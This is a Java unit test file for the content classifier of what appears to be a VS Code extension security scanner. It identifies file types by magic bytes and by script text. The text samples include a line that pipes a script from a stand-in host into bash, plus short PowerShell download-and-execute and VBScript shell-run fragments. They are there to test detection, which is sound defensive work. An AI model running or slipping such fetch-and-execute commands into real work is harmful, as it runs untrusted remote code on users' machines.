package dev.vsxray.scanner.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ContentKindsTest {

    /** First bytes in hexadecimal, as the specifications give them, followed by zeros. */
    @ParameterizedTest
    @CsvSource({
        "PNG, 89504E470D0A1A0A",
        "JPEG, FFD8FFE0",
        "GIF, 474946383961",
        "WEBP, 52494646AABBCCDD57454250",
        "WAV, 52494646AABBCCDD57415645",
        "AVI, 52494646AABBCCDD41564920",
        "TIFF, 49492A00",
        "ICNS, 69636E73",
        "PSD, 38425053",
        "AVIF, 000000206674797061766966",
        "MP4, 0000002066747970697336D",
        "WOFF, 774F4646",
        "WOFF2, 774F4632",
        "OTF, 4F54544F",
        "TTF, 0001000000",
        "MP3, 494433",
        "OGG, 4F676753",
        "FLAC, 664C6143",
        "WEBM, 1A45DFA3",
        "PDF, 255044462D",
        "OLE, D0CF11E0A1B11AE1",
        "ZIP, 504B0304",
        "GZIP, 1F8B08",
        "BZIP2, 425A6839314159265359",
        "XZ, FD377A585A00",
        "ZSTD, 28B52FFD",
        "LZ4, 04224D18",
        "SEVEN_ZIP, 377ABCAF271C",
        "RAR, 526172211A07",
        "CAB, 4D53434600000000",
        "AR, 213C617263683E0A",
        "RPM, EDABEEDB",
        "WHEEL, 43723234",
        "ELF, 7F454C46",
        "MACH_O, CFFAEDFE",
        "MACH_O, CAFEBABE00000002",
        "JAVA_CLASS, CAFEBABE00000034",
        "WASM, 0061736D",
        "DEX, 6465780A30",
        "LLVM_BITCODE, 4243C0DE",
        "WINDOWS_SHORTCUT, 4C0000000114020000",
        "BINARY_PLIST, 62706C69737430",
        "SQLITE, 53514C69746520666F726D6174203300",
        "PE, 4D5A9000",
        "BINARY, 0102030400"
    })
    void tellsKindsByTheirFirstBytes(ContentKind kind, String hex) {
        String even = hex.length() % 2 == 0 ? hex : hex + "0";
        byte[] file = new byte[128];
        byte[] head = java.util.HexFormat.of().parseHex(even);
        System.arraycopy(head, 0, file, 0, head.length);
        assertThat(ContentKinds.of(file)).isEqualTo(kind);
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '~',
            delimiter = '|',
            value = {
                "JAVASCRIPT | ~(function(_0x1,_0x2){while(!![]){}})()~",
                "JAVASCRIPT | ~#!/usr/bin/env node\nmain()~",
                "JAVASCRIPT | ~import fs from 'fs'\nexport default 1~",
                "JAVASCRIPT | ~const a = require('x'); a()~",
                "PYTHON | ~import os\n\ndef main():\n    os.system('x')\n~",
                "SHELL | ~#!/bin/bash\necho hi~",
                "SHELL | ~curl -s https://evil.invalid/a | bash\n~",
                "POWERSHELL | ~$x = New-Object Net.WebClient\nInvoke-Expression $x~",
                "BATCH | ~@echo off\r\nset A=1\r\n~",
                "VBSCRIPT | ~Set s = CreateObject(\"WScript.Shell\")\ns.Run \"x\"~",
                "APPLESCRIPT | ~do shell script \"ls\"~",
                "HTML | ~<!DOCTYPE html><html></html>~",
                "SVG | ~<svg xmlns=\"http://www.w3.org/2000/svg\"/>~",
                "XML | ~<?xml version=\"1.0\"?><a/>~",
                "JSON | ~{\"a\": [1, 2]}~",
                "JSON | ~[{\"a\": null}]~",
                "TEXT | ~Once upon a time there was a function.~",
                "PEM | ~-----BEGIN CERTIFICATE-----~"
            })
    void tellsLanguagesByTheirText(ContentKind kind, String text) {
        assertThat(ContentKinds.of(text.getBytes(StandardCharsets.UTF_8))).isEqualTo(kind);
    }

    @Test
    void jsFuckIsAProgramAndNoJson() {
        String jsFuck = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]".repeat(10);
        assertThat(ContentKinds.of(jsFuck.getBytes(StandardCharsets.US_ASCII))).isEqualTo(ContentKind.JAVASCRIPT);
    }

    @Test
    void everyEndingPromisesOneKind() {
        assertThat(ContentKind.promisedBy("media/Icon.PNG")).isEqualTo(ContentKind.PNG);
        assertThat(ContentKind.promisedBy("a/b.vsix!/c.node")).isEqualTo(ContentKind.NODE_ADDON);
        assertThat(ContentKind.promisedBy("LICENSE")).isEqualTo(ContentKind.UNKNOWN);
    }

    @Test
    void anyBytesHaveAKind() {
        Random random = new Random(11);
        for (int round = 0; round < 2_000; round++) {
            byte[] bytes = new byte[random.nextInt(300)];
            random.nextBytes(bytes);
            Arrays.fill(bytes, 0, Math.min(bytes.length, random.nextInt(4)), (byte) 'M');
            assertThat(ContentKinds.of(bytes)).isNotNull();
            TrailingData.end(ContentKind.values()[random.nextInt(ContentKind.values().length)], bytes);
        }
    }
}
